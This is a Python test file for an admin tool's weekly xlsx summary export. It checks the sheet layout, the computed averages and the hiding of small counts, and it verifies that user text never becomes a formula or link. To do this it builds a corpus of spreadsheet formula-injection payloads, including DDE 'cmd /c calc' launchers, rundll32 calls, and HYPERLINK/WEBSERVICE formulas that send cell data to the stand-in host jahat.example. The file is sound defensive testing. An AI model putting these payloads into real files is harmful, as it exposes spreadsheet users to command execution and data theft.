"""`ringkasan_WEEK.xlsx`: numbers are numbers, everything else is text, nothing is a formula."""

import re
import statistics
import zipfile
from collections.abc import Iterator, Sequence
from dataclasses import replace
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from openpyxl.workbook import Workbook

from admin_cli.poster.text import cleaned
from admin_cli.standings import Office, Standing
from admin_cli.summary.writing import content, write
from admin_cli.week_report.counting import Count, hour_at
from admin_cli.week_report.release import Weeks, released
from admin_cli.week_report.report import Report
from storage.drafts import Draft
from storage.evidence import Content, Evidence
from storage.periods import Period
from storage.places import Instansi, Lokus
from survey_flows.facts import Attached, DeclaredMissing, Entry
from survey_flows.weeks import Week
from tests.admin_cli.conftest import Desk
from tests.admin_cli.counter import F01
from tests.admin_cli.weekly import HIDDEN, WEEK, city, column, written
from tests.answering import FORM, ITEMS, marks

SHEETS = [
    "Ringkasan",
    "Lokus",
    "F-03 indeks",
    "F-03 butir",
    "F-01 kemajuan",
    "F-01 bukti",
    "Keterangan",
]
FORMULAS = (
    "1+1",
    "cmd|'/c calc'!A1",
    'HYPERLINK("http://jahat.example/?x="&A1,"klik")',
    'DDE("cmd";"/c calc";"a")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    'WEBSERVICE("http://jahat.example")',
    'IMPORTXML("http://jahat.example","//a")',
    "@SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
)
STARTS = (
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", '"='),
    *("==", "=-", "+=", "@=", "\N{FULLWIDTH EQUALS SIGN}", "\N{FULLWIDTH PLUS SIGN}"),
    *("\N{ZERO WIDTH SPACE}=", "\N{NO-BREAK SPACE}=", "\ufeff=", "\N{RIGHT-TO-LEFT OVERRIDE}="),
)
CORPUS = [start + formula for start in STARTS for formula in FORMULAS]
MONTH = Period(1, "2026", date(2026, 11, 1), date(2026, 12, 31), None, "")


@pytest.fixture
def book(desk: Desk) -> Workbook:
    return openpyxl.load_workbook(written(city(desk), WEEK, "--format", "xlsx")[".xlsx"])


def table(book: Workbook, name: str) -> list[dict[str, object]]:
    heads, *rows = book[name].iter_rows(values_only=True)
    return [dict(zip(map(str, heads), row, strict=True)) for row in rows]


def test_every_table_has_its_sheet_ready_to_filter_and_to_print(book: Workbook) -> None:
    assert book.sheetnames == SHEETS
    for name in SHEETS[1:-1]:
        sheet = book[name]
        assert sheet.freeze_panes == "C2"
        assert sheet.auto_filter.ref == sheet.dimensions
        assert sheet.print_title_rows == "$1:$1"
    for sheet in book:
        assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.page_setup.fitToHeight == 0  # as many pages as it takes, one across


def test_the_cells_hold_the_numbers_of_a_hand_calculation(book: Workbook) -> None:
    means = {item: statistics.fmean(column(item)) for item in ITEMS}
    items = table(book, "F-03 butir")
    assert [one["Rata-rata"] for one in items] == pytest.approx(list(means.values()))
    assert {one["Lokus"] for one in items} == {"pkm"}
    pkm = next(one for one in table(book, "F-03 indeks") if one["Lokus"] == "pkm")
    assert pkm["Indeks F-03"] == pytest.approx(statistics.fmean(means.values()))
    lokus = next(one for one in table(book, "Lokus") if one["Lokus"] == "pkm")
    assert [lokus["Sen 16-11"], lokus["Min 22-11"], lokus["Jam 08–10"]] == [2, 0, 2]
    charts = book["Ringkasan"]._charts  # noqa: SLF001 - openpyxl shows charts no other way
    assert len(charts) == 2


def test_fewer_than_ten_leave_empty_cells_and_say_why(book: Workbook) -> None:
    for name in ("Lokus", "F-03 indeks"):
        kel = next(one for one in table(book, name) if one["Lokus"] == "kel")
        told = {head: value for head, value in kel.items() if value is not None}
        del told["Instansi"], told["Nama lokus"]
        if name == "F-03 indeks":
            assert (told.pop("n sejak awal periode"), told.pop("n menunggu")) == (0, 3)
        assert told == {"Lokus": "kel", "Jawaban (n)": 3, "Keterangan": HIDDEN}


def test_no_text_becomes_a_formula_or_a_link(tmp_path: Path) -> None:
    file = tmp_path / "ringkasan.xlsx"
    write(hostile(), file)
    book = openpyxl.load_workbook(file)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.coordinate for cell in cells if cell.hyperlink] == []
    texts = "\n".join(str(cell.value) for cell in cells)
    assert [one for one in CORPUS if cleaned(one) not in texts] == []
    assert len(set(CORPUS)) == 200
    with zipfile.ZipFile(file) as archive:
        sheets = [name for name in archive.namelist() if "/worksheets/" in name]
        assert [name for name in sheets if re.search(rb"<f[ >]", archive.read(name))] == []
        assert [name for name in archive.namelist() if "externalLink" in name] == []


def test_the_same_report_gives_the_same_bytes() -> None:
    assert content(hostile()) == content(hostile())


def hostile() -> Report:
    """A report in which every text that anybody can choose is meant to do harm."""
    week = Week.read(WEEK)
    every = [
        Lokus(at, f"l{at}", text, Instansi(1, "i", CORPUS[-at], "Asia/Makassar"))
        for at, text in enumerate(CORPUS)
    ]
    weeks = Weeks(week, [week], week)
    counts = {week: _count()}
    return Report(
        week,
        is_over=True,
        period=replace(MONTH, code=CORPUS[0]),
        others=(),
        instansi=CORPUS[1],
        form=FORM,
        lokus=[released(FORM, one, counts if one.id < 5 else {}, weeks) for one in every],
        standings=list(_standings(every)),
    )


def _count() -> Count:
    made = Count(ITEMS)
    for mark in (1, 2, 3, 4, 5) * 2:
        made.add(marks(mark).values(), hour_at(500_000, "Asia/Makassar"))
    return made


def _standings(every: Sequence[Lokus]) -> Iterator[Standing]:
    """In each form a reason, and a file with a name and a caption."""
    office = Office(MONTH, {F01.version: F01}, F01, {}, {}, {})
    names = [slot.name for item in F01.items for slot in item.evidence][:3]
    for at in range(0, len(every), 4):
        reason, name, caption, other = CORPUS[at : at + 4]
        facts = (DeclaredMissing(names[0], reason), DeclaredMissing(names[1], other))
        said = (*facts, Attached(names[2], "key"))
        entries = tuple(Entry(fact, 1, 1_763_000_000) for fact in said)
        draft = Draft(1, "F-01", F01.version, at, 1, 1, "", 3, (1,), entries)
        file = Content("0" * 64, 1, "jpeg", "image/jpeg", "jpg")
        stored = Evidence("key", 1, names[2], 1, 1_763_000_000, name, caption, file)
        yield Standing(office, every[at], draft, {"key": stored})
